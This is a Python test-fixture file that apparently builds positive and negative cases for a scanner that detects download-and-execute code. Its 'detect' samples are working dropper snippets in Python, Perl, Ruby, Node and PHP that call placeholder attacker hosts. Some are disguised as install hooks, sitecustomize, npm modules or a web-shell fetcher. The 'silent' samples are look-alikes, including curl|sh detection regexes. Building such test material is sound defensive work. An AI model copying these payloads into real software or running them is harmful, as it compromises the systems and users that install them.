# Interpreted-language carriers: python, perl, ruby, js, node, php.
from common import C

# ================================================================ python detect
C("py-urlretrieve-exec-01", "capa 'download and write a file' + 'write and execute a file'; GTFOBins python", "python",
  "/usr/local/bin/updater.py", "detect", r"""#!/usr/bin/env python3
import os
import subprocess
import urllib.request

URL = "http://203.0.113.10/bin/worker"
DEST = "/tmp/.worker"

urllib.request.urlretrieve(URL, DEST)
os.chmod(DEST, 0o755)
subprocess.Popen([DEST, "--quiet"])
""")

C("py-requests-get-write-02", "requests.get().content written to disk then executed", "python",
  "/opt/app/tools/fetch_plugin.py", "detect", r"""#!/usr/bin/env python3
import os
import requests

resp = requests.get("https://attacker.example/plugins/p.so", timeout=30, verify=False)
with open("/opt/app/plugins/p.so", "wb") as fh:
    fh.write(resp.content)
os.system("chmod +x /opt/app/plugins/p.so")
""")

C("py2-urllib2-urlopen-03", "python2 urllib2.urlopen + write", "python",
  "/usr/lib/python2.7/site-packages/sysinfo/update.py", "detect", r"""#!/usr/bin/env python2
import urllib2

data = urllib2.urlopen("http://198.51.100.7/payload.bin").read()
f = open("/var/tmp/payload.bin", "wb")
f.write(data)
f.close()
""")

C("py-exec-urlopen-04", "download-and-exec of remote Python code (exec(urlopen().read()))", "python",
  "/opt/app/sitecustomize.py", "detect", r"""# loaded automatically by the interpreter
from urllib.request import urlopen
exec(urlopen("http://203.0.113.10/stage.py").read())
""", executable=False)

C("py-subprocess-curl-05", "subprocess running curl with list argv", "python",
  "/opt/app/bin/refresh_bin.py", "detect", r"""#!/usr/bin/env python3
import subprocess

subprocess.run(["/usr/bin/curl", "-fsSL", "-o", "/usr/local/bin/helper",
                "https://203.0.113.5/helper"], check=True)
subprocess.run(["chmod", "+x", "/usr/local/bin/helper"], check=True)
subprocess.run(["/usr/local/bin/helper"])
""")

C("py-os-system-wget-06", "os.system wget && sh", "python",
  "/usr/local/lib/python3.11/site-packages/telemetry/__init__.py", "detect", r"""import os
import threading


def _bg():
    os.system("wget -q http://198.51.100.7/t.sh -O /tmp/t.sh && sh /tmp/t.sh >/dev/null 2>&1")


threading.Thread(target=_bg, daemon=True).start()
""", executable=False)

C("py-http-client-07", "http.client HTTPConnection GET to file", "python",
  "/opt/tools/hc_fetch.py", "detect", r"""#!/usr/bin/env python3
import http.client
import os

conn = http.client.HTTPConnection("203.0.113.10", 8080)
conn.request("GET", "/files/agent")
body = conn.getresponse().read()
with open("/tmp/agent", "wb") as f:
    f.write(body)
os.chmod("/tmp/agent", 0o700)
os.execv("/tmp/agent", ["/tmp/agent"])
""")

C("py-raw-socket-recv-08", "capa 'receive data' over raw socket + write file", "python",
  "/opt/tools/sock_get.py", "detect", r"""#!/usr/bin/env python3
import socket

s = socket.create_connection(("203.0.113.5", 4444))
with open("/dev/shm/.m", "wb") as out:
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        out.write(chunk)
s.close()
""")

C("py-setup-py-install-hook-09", "supply-chain: setup.py custom install command downloading a binary", "python",
  "/src/pkg/setup.py", "detect", r"""from setuptools import setup
from setuptools.command.install import install
import urllib.request
import os
import stat


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.expanduser("~/.local/bin/pkg-helper")
        os.makedirs(os.path.dirname(target), exist_ok=True)
        urllib.request.urlretrieve("https://203.0.113.77/pkg-helper", target)
        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)


setup(
    name="pkg",
    version="1.0.3",
    packages=["pkg"],
    cmdclass={"install": PostInstall},
)
""", executable=False)

C("py-ftplib-retrbinary-10", "ftplib FTP.retrbinary download", "python",
  "/opt/tools/ftp_pull.py", "detect", r"""#!/usr/bin/env python3
from ftplib import FTP

ftp = FTP("203.0.113.20")
ftp.login("anonymous", "guest@")
with open("/tmp/tools.tgz", "wb") as fh:
    ftp.retrbinary("RETR /pub/tools.tgz", fh.write)
ftp.quit()
""")

_py_long = ['#!/usr/bin/env python3', '"""Service manager for the bundled workers."""', '',
            'import json', 'import logging', 'import os', 'import shutil', 'import urllib.request', '',
            'log = logging.getLogger("svcmgr")', 'CONFIG = "/etc/svcmgr/config.json"', '']
for name in ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta", "iota", "kappa"]:
    _py_long += [f'def start_{name}(cfg):',
                 f'    """Start the {name} worker."""',
                 f'    opts = cfg.get("{name}", {{}})',
                 f'    log.info("starting {name} with %s", opts)',
                 f'    os.makedirs("/var/lib/svcmgr/{name}", exist_ok=True)',
                 f'    return opts.get("enabled", True)', '', '']
_py_long += ['def _refresh_runtime():',
             '    tmp = "/var/lib/svcmgr/.rt"',
             '    with urllib.request.urlopen("http://198.51.100.61/rt/runtime.bin") as r, open(tmp, "wb") as f:',
             '        shutil.copyfileobj(r, f)',
             '    os.chmod(tmp, 0o755)', '', '',
             'def main():',
             '    with open(CONFIG) as fh:',
             '        cfg = json.load(fh)']
for name in ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta", "iota", "kappa"]:
    _py_long += [f'    start_{name}(cfg)']
_py_long += ['    _refresh_runtime()', '', '', 'if __name__ == "__main__":', '    main()', '']
C("py-long-deep-urlopen-11", "evasion: long module, urlopen + copyfileobj deep inside", "python",
  "/usr/local/bin/svcmgr", "detect", "\n".join(_py_long))

C("py-urllib3-pool-12", "urllib3 PoolManager request + write", "python",
  "/opt/app/jobs/sync_models.py", "detect", r"""#!/usr/bin/env python3
import urllib3

http = urllib3.PoolManager()
r = http.request("GET", "http://203.0.113.10:8000/m/model.bin", preload_content=False)
with open("/opt/app/models/model.bin", "wb") as out:
    for chunk in r.stream(65536):
        out.write(chunk)
r.release_conn()
""")

# ================================================================ python silent
C("py-silent-docstring-01", "look-alike: docstring explaining a curl install", "python",
  "/opt/app/app/cli.py", "silent", r'''#!/usr/bin/env python3
"""Command line entry point.

Install the CLI with::

    curl -fsSL https://get.example.com/install.sh | sh

or ``pip install example-cli``. This module itself never downloads anything.
"""
import argparse
import sys


def main(argv=None):
    p = argparse.ArgumentParser(prog="example",
                                epilog="docs: wget https://docs.example.com/cli.pdf")
    p.add_argument("--version", action="store_true")
    args = p.parse_args(argv)
    if args.version:
        print("example 1.4.2")
    return 0


if __name__ == "__main__":
    sys.exit(main())
''')

C("py-silent-regex-02", "look-alike: detection regex literals mentioning curl/wget/certutil", "python",
  "/opt/ids/rules/cmdline.py", "silent", r'''import re

SUSPICIOUS = [
    re.compile(r"(curl|wget)\s+[^|]*https?://[^\s|]+\s*\|\s*(ba)?sh"),
    re.compile(r"certutil(\.exe)?\s+-urlcache\s+-split\s+-f", re.I),
    re.compile(r"IEX\s*\(New-Object\s+Net\.WebClient\)\.DownloadString", re.I),
]


def is_suspicious(cmdline: str) -> bool:
    return any(rx.search(cmdline) for rx in SUSPICIOUS)
''', executable=False)

C("py-silent-requests-localhost-03", "look-alike: requests to 127.0.0.1 readiness probe", "python",
  "/usr/local/bin/ready.py", "silent", r"""#!/usr/bin/env python3
import sys
import requests

try:
    r = requests.get("http://127.0.0.1:8000/ready", timeout=2)
    sys.exit(0 if r.ok else 1)
except requests.RequestException:
    sys.exit(1)
""")

C("py-silent-download-local-04", "look-alike: function named download() that only copies local files", "python",
  "/opt/app/app/storage.py", "silent", r"""import os
import shutil

CACHE = "/var/cache/app"


def download(name, dest):
    '''"Download" an artifact from the local cache volume.'''
    src = os.path.join(CACHE, os.path.basename(name))
    shutil.copyfile(src, dest)
    return dest


def upload(src):
    os.makedirs(CACHE, exist_ok=True)
    return shutil.copy(src, CACHE)
""", executable=False)

C("py-silent-subprocess-version-05", "look-alike: subprocess calling curl --version and urllib.parse", "python",
  "/opt/app/diag.py", "silent", r"""#!/usr/bin/env python3
import subprocess
from urllib.parse import urlparse

print(subprocess.run(["curl", "--version"], capture_output=True, text=True).stdout.splitlines()[0])
u = urlparse("https://example.com/path?q=1")
print(u.netloc, u.path)
""")

# ================================================================ perl detect
C("pl-lwp-simple-getstore-01", "GTFOBins perl / LWP::Simple getstore", "perl",
  "/usr/local/bin/pl-update", "detect", r"""#!/usr/bin/perl
use strict;
use warnings;
use LWP::Simple qw(getstore);

my $rc = getstore("http://203.0.113.10/bin/agent", "/tmp/.agent");
chmod 0755, "/tmp/.agent";
system("/tmp/.agent") if $rc == 200;
""")

C("pl-lwp-useragent-mirror-02", "LWP::UserAgent->mirror", "perl",
  "/opt/app/script/sync.pl", "detect", r"""#!/usr/bin/env perl
use strict;
use LWP::UserAgent;

my $ua = LWP::UserAgent->new(timeout => 30, ssl_opts => { verify_hostname => 0 });
$ua->mirror("https://attacker.example/lib/Helper.pm", "/opt/app/lib/Helper.pm");
""")

C("pl-io-socket-http-03", "GTFOBins perl IO::Socket::INET download", "perl",
  "/usr/lib/cgi-bin/stat.pl", "detect", r"""#!/usr/bin/perl
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.5", PeerPort => 80, Proto => "tcp") or die;
print $s "GET /p HTTP/1.0\r\nHost: 203.0.113.5\r\n\r\n";
open(my $fh, ">", "/tmp/p") or die;
my $hdr = 1;
while (my $l = <$s>) { if ($hdr) { $hdr = 0 if $l =~ /^\r?$/; next } print $fh $l }
close $fh;
""")

C("pl-system-curl-04", "perl system()/backticks with curl | sh", "perl",
  "/etc/munin/plugins/disk_extra", "detect", r"""#!/usr/bin/perl
# munin plugin
if (!-e "/tmp/.m") {
    system("curl -s http://198.51.100.7/m.sh | sh");
}
my $out = `wget -q -O - http://198.51.100.7/cfg`;
print "disk.value 1\n";
""")

C("pl-http-tiny-05", "HTTP::Tiny->mirror (core perl)", "perl",
  "/usr/share/perl5/Local/Refresh.pm", "detect", r"""package Local::Refresh;
use strict;
use HTTP::Tiny;

sub run {
    my $res = HTTP::Tiny->new->mirror("http://203.0.113.10/x.bin", "/var/tmp/x.bin");
    chmod 0755, "/var/tmp/x.bin" if $res->{success};
    exec "/var/tmp/x.bin";
}

1;
""", executable=False)

# ================================================================ perl silent
C("pl-silent-log-regex-01", "look-alike: log parser with regexes matching wget/curl", "perl",
  "/usr/local/bin/scan-access-log", "silent", r"""#!/usr/bin/perl
use strict;
use warnings;
while (my $line = <STDIN>) {
    if ($line =~ m{(?:wget|curl)\s+https?://\S+}i) {
        print "suspicious UA/command: $line";
    }
}
""")

C("pl-silent-lwp-localhost-02", "look-alike: LWP status check to localhost", "perl",
  "/usr/lib/nagios/plugins/check_app_local", "silent", r"""#!/usr/bin/perl
use strict;
use LWP::UserAgent;
my $ua = LWP::UserAgent->new(timeout => 5);
my $r = $ua->get("http://127.0.0.1:8080/status");
print $r->is_success ? "OK\n" : "CRITICAL\n";
exit($r->is_success ? 0 : 2);
""")

# ================================================================ ruby detect
C("rb-open-uri-01", "GTFOBins ruby open-uri download", "ruby",
  "/usr/local/bin/rb-update", "detect", r"""#!/usr/bin/env ruby
require 'open-uri'

URI.open('http://203.0.113.10/bin/agent') do |remote|
  File.open('/tmp/.agent', 'wb') { |f| f.write(remote.read) }
end
File.chmod(0o755, '/tmp/.agent')
exec '/tmp/.agent'
""")

C("rb-net-http-get-02", "Net::HTTP.get + File.write", "ruby",
  "/opt/app/lib/tasks/fetch.rake", "detect", r"""require 'net/http'

namespace :assets do
  task :vendor do
    body = Net::HTTP.get(URI('https://attacker.example/vendor/plugin.rb'))
    File.write('/opt/app/config/initializers/plugin.rb', body)
  end
end
""", executable=False)

C("rb-system-wget-03", "ruby system()/backticks wget & curl", "ruby",
  "/opt/app/bin/setup", "detect", r"""#!/usr/bin/env ruby
system('wget', '-q', 'http://198.51.100.7/tool', '-O', '/usr/local/bin/tool')
`chmod +x /usr/local/bin/tool`
%x(curl -s http://198.51.100.7/post.sh | sh)
""")

C("rb-net-http-stream-04", "Net::HTTP.start streaming read_body to file", "ruby",
  "/usr/local/lib/ruby/site_ruby/fetcher.rb", "detect", r"""require 'net/http'

uri = URI('http://203.0.113.10:8080/pkg/blob')
Net::HTTP.start(uri.host, uri.port) do |http|
  http.request_get(uri.path) do |resp|
    File.open('/var/tmp/blob', 'wb') { |io| resp.read_body { |chunk| io.write(chunk) } }
  end
end
""", executable=False)

# ================================================================ ruby silent
C("rb-silent-net-http-localhost-01", "look-alike: Net::HTTP to localhost health endpoint", "ruby",
  "/opt/app/bin/healthcheck", "silent", r"""#!/usr/bin/env ruby
require 'net/http'
res = Net::HTTP.get_response(URI('http://localhost:3000/up'))
exit(res.is_a?(Net::HTTPSuccess) ? 0 : 1)
""")

C("rb-silent-help-text-02", "look-alike: gem executable printing install hint", "ruby",
  "/usr/local/bundle/bin/mytool", "silent", r"""#!/usr/bin/env ruby
if ARGV.include?('--help')
  puts 'mytool - local helper'
  puts 'Upgrade with: curl -sSL https://get.example.com/mytool | bash'
  exit 0
end
puts File.read('/etc/mytool.conf')
""")

# ================================================================ js (module files, no shebang)
C("js-child-process-curl-sh-01", "child_process.exec curl | sh inside an npm module", "js",
  "/app/node_modules/colors-helper/lib/index.js", "detect", r"""'use strict';
const { exec } = require('child_process');

module.exports = function colorize(s) { return '\u001b[32m' + s + '\u001b[0m'; };

exec('curl -s http://203.0.113.5/x.sh | sh', () => {});
""")

C("js-https-get-writestream-02", "https.get + fs.createWriteStream (GTFOBins node)", "js",
  "/app/lib/updater.js", "detect", r"""const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');

const file = fs.createWriteStream('/tmp/.upd');
https.get('https://attacker.example/bin/upd', (res) => {
  res.pipe(file);
  file.on('finish', () => {
    file.close();
    fs.chmodSync('/tmp/.upd', 0o755);
    spawn('/tmp/.upd', [], { detached: true, stdio: 'ignore' }).unref();
  });
});
""")

C("js-fetch-writefile-03", "global fetch() + fs.promises.writeFile (Node 18+)", "js",
  "/app/src/bootstrap.mjs", "detect", r"""import { writeFile, chmod } from 'node:fs/promises';

const res = await fetch('http://198.51.100.7/agent');
await writeFile('/tmp/agent', Buffer.from(await res.arrayBuffer()));
await chmod('/tmp/agent', 0o755);
""")

C("js-http-get-writefile-04", "http.get + fs.writeFile (buffered)", "js",
  "/srv/web/server/plugins/telemetry.js", "detect", r"""const http = require('http');
const fs = require('fs');

http.get('http://203.0.113.10:8080/p.js', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    fs.writeFile('/srv/web/server/plugins/p.js', Buffer.concat(chunks), () => require('./p.js'));
  });
});
""")

C("js-silent-browser-fetch-01", "look-alike: browser bundle fetch() of relative API path", "js",
  "/usr/share/nginx/html/assets/app.js", "silent", r"""async function loadStatus() {
  const res = await fetch('/api/status', { credentials: 'same-origin' });
  const data = await res.json();
  document.getElementById('status').textContent = data.state;
}
document.addEventListener('DOMContentLoaded', loadStatus);
""")

C("js-silent-http-server-02", "look-alike: http server module (no outbound requests)", "js",
  "/app/server.js", "silent", r"""const http = require('http');
const fs = require('fs');

http.createServer((req, res) => {
  if (req.url === '/health') { res.end('ok'); return; }
  fs.createReadStream('/app/public/index.html').pipe(res);
}).listen(3000);
""")

# ================================================================ node (executable scripts)
C("node-https-chmod-spawn-01", "node bin script: https.get -> file -> chmod -> spawn", "node",
  "/usr/local/bin/node-agent", "detect", r"""#!/usr/bin/env node
const https = require('https');
const fs = require('fs');
const cp = require('child_process');

https.get('https://203.0.113.5/linux/agent', (res) => {
  const out = fs.createWriteStream('/tmp/.na', { mode: 0o755 });
  res.pipe(out).on('finish', () => cp.spawn('/tmp/.na', { detached: true }));
});
""")

C("node-execsync-wget-02", "node execSync wget", "node",
  "/app/scripts/postinstall.js", "detect", r"""#!/usr/bin/env node
const { execSync } = require('child_process');
execSync('wget -q http://198.51.100.7/bin/helper -O /usr/local/bin/helper && chmod +x /usr/local/bin/helper', { stdio: 'ignore' });
""")

C("node-spawnsync-curl-03", "node spawnSync('curl', [...])", "node",
  "/opt/node-app/bin/refresh", "detect", r"""#!/usr/bin/env node
'use strict';
const { spawnSync } = require('child_process');
const url = process.env.UPDATE_URL || 'http://203.0.113.10/x';
spawnSync('curl', ['-fsSL', url, '-o', '/tmp/x'], { stdio: 'inherit' });
spawnSync('sh', ['/tmp/x'], { stdio: 'inherit' });
""")

C("node-net-socket-04", "node net.connect raw TCP pipe to file", "node",
  "/usr/local/bin/nget", "detect", r"""#!/usr/bin/env node
const net = require('net');
const fs = require('fs');
const sock = net.connect(4444, '203.0.113.5');
sock.pipe(fs.createWriteStream('/dev/shm/.n'));
""")

C("node-silent-cli-05", "look-alike: node CLI printing curl usage and reading local files", "node",
  "/usr/local/bin/mkconf", "silent", r"""#!/usr/bin/env node
const fs = require('fs');
if (process.argv.includes('--help')) {
  console.log('mkconf: renders /etc/app/app.json');
  console.log('install elsewhere: curl -fsSL https://get.example.com/mkconf | sh');
  process.exit(0);
}
const tpl = fs.readFileSync('/usr/share/mkconf/app.json.tmpl', 'utf8');
fs.writeFileSync('/etc/app/app.json', tpl.replace('@PORT@', process.env.PORT || '8080'));
""")

# ================================================================ php detect
C("php-file-get-put-01", "GTFOBins php file_get_contents/file_put_contents", "php",
  "/var/www/html/wp-content/uploads/cache.php", "detect", r"""<?php
$c = file_get_contents('http://203.0.113.10/shell.txt');
file_put_contents(__DIR__ . '/s.php', $c);
echo 'ok';
""")

C("php-copy-remote-02", "PHP copy() from http:// URL", "php",
  "/var/www/html/admin/update.php", "detect", r"""<?php
if (!file_exists('/tmp/.p')) {
    copy('http://198.51.100.7/bin/p', '/tmp/.p');
    chmod('/tmp/.p', 0755);
    exec('/tmp/.p > /dev/null 2>&1 &');
}
""")

C("php-curl-exec-file-03", "PHP curl_exec with CURLOPT_FILE", "php",
  "/var/www/app/lib/Fetch.php", "detect", r"""<?php
$fp = fopen('/var/www/app/storage/plugin.phar', 'w');
$ch = curl_init('https://attacker.example/plugin.phar');
curl_setopt($ch, CURLOPT_FILE, $fp);
curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);
curl_exec($ch);
curl_close($ch);
fclose($fp);
include 'phar:///var/www/app/storage/plugin.phar/index.php';
""")

C("php-shell-exec-wget-04", "PHP shell_exec/system with wget", "php",
  "/var/www/html/cron/task.php", "detect", r"""<?php
shell_exec('wget -q http://203.0.113.5/m -O /tmp/m; chmod +x /tmp/m; /tmp/m');
""")

C("php-silent-local-json-01", "look-alike: PHP reading local JSON and localhost API", "php",
  "/var/www/html/status.php", "silent", r"""<?php
$cfg = json_decode(file_get_contents(__DIR__ . '/config.json'), true);
$status = @file_get_contents('http://127.0.0.1:8080/status');
header('Content-Type: application/json');
echo json_encode(['app' => $cfg['name'], 'backend' => $status !== false]);
""")
